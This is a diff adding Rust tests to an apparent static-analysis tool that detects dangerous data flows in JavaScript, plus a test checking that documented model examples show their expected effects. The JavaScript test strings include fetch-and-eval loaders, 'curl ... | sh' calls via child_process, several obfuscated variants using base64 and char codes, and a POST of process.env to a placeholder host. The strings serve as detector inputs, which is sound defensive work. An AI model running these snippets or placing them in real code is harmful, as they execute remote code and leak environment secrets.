@@ -313,3 +313,77 @@ fn hostile_programs_end_soon() {
     }
     assert!(started.elapsed() < Duration::from_secs(60), "{:?}", started.elapsed());
 }
+
+#[test]
+fn fetched_content_reaches_an_interpreter_in_javascript() {
+    for text in [
+        "fetch('https://x.test/a').then(r => r.text()).then(t => eval(t))",
+        "const r = await fetch('https://x.test/a'); const t = await r.text(); new Function(t)()",
+        "const cp = require('child_process'); cp.exec('curl https://x.test/a | sh')",
+        "const { exec: e } = require('child_process'); e(`curl https://x.test/${process.argv[2]} | sh`)",
+        "import { execSync } from 'node:child_process'; execSync('curl https://x.test/a | sh')",
+        "require('child_' + 'process')['ex' + 'ec']('curl https://x.test/a | sh')",
+        "const axios = require('axios'); async function go() { const r = await axios.get('https://x.test/a'); eval(r.data) } go()",
+        "const f = []['filter']['constructor']; fetch('https://x.test/a').then(r => r.text()).then(t => f(t)())",
+        "const util = require('util'); const run = util.promisify(require('child_process').exec); run('curl https://x.test/a|sh')",
+        "require('child_process').exec(atob('Y3VybCBodHRwczovL3gudGVzdC9hfHNo'))",
+        "require('child_process').exec(Buffer.from('Y3VybCBodHRwczovL3gudGVzdC9hfHNo', 'base64').toString())",
+        "const a = ['ex', 'ec', 'child_process']; require(a[2])[a[0] + a[1]]('curl https://x.test/a | sh')",
+        "eval(String.fromCharCode(...[114,101,113,117,105,114,101,40,39,99,104,105,108,100,95,112,114,111,99,101,115,115,39,41,46,101,120,101,99,40,39,99,117,114,108,32,120,46,116,101,115,116,124,115,104,39,41]))",
+    ] {
+        assert_flows(&[("a.js", text)], EffectKind::Fetch, EffectKind::Eval);
+    }
+    assert_flows(
+        &[("a.js", "const n = require('./lib/n'); n.load('https://x.test/a').then(t => eval(t))"),
+          ("lib/n.js", "async function load(u) { const r = await fetch(u); return r.text() }\nmodule.exports = { load }")],
+        EffectKind::Fetch,
+        EffectKind::Eval,
+    );
+    assert_flows(
+        &[("a.js", "fetch('https://x.test/c', { method: 'POST', body: JSON.stringify(process.env) })")],
+        EffectKind::Env,
+        EffectKind::Send,
+    );
+}
+
+/// Every example of a model has the effects that it names, in order.
+#[test]
+fn examples_of_models_have_their_effects() {
+    let mut examples: Vec<_> = models().programs().map(|(_, known)| (known.title.clone(), known.example.clone())).collect();
+    examples.extend(models().calls().map(|(_, _, known)| (known.title.clone(), known.example.clone())));
+    examples.sort_by(|one, two| (&one.1.file, one.1.line).cmp(&(&two.1.file, two.1.line)));
+    examples.dedup_by(|one, two| one.1.file == two.1.file && one.1.line == two.1.line);
+    let mut failed = String::new();
+    let mut count = 0;
+    for (title, example) in &examples {
+        let path = match &*example.language {
+            "python" => "a.py",
+            "javascript" => "a.js",
+            "powershell" => "a.ps1",
+            _ => "a.sh",
+        };
+        let (_, graph) = bundle(&[(path, &example.code)]);
+        let mut effects = graph.effects().iter();
+        for expected in &example.effects {
+            let found = effects.any(|effect| {
+                effect.kind == expected.kind
+                    && expected.with.iter().all(|(role, text)| {
+                        effect.argument(role).is_some_and(|value| {
+                            let rendered = value.rendered();
+                            rendered == *text || rendered.trim_matches(['[', ']']) == *text || value.texts(8).contains(text)
+                        })
+                    })
+            });
+            if !found {
+                count += 1;
+                let _ = writeln!(
+                    failed,
+                    "{}:{} {title}: {} {:?} in `{}`\n{}",
+                    example.file, example.line, expected.kind, expected.with, example.code, describe(&graph)
+                );
+                break;
+            }
+        }
+    }
+    assert!(failed.is_empty(), "{count} of {}\n{failed}", examples.len());
+}
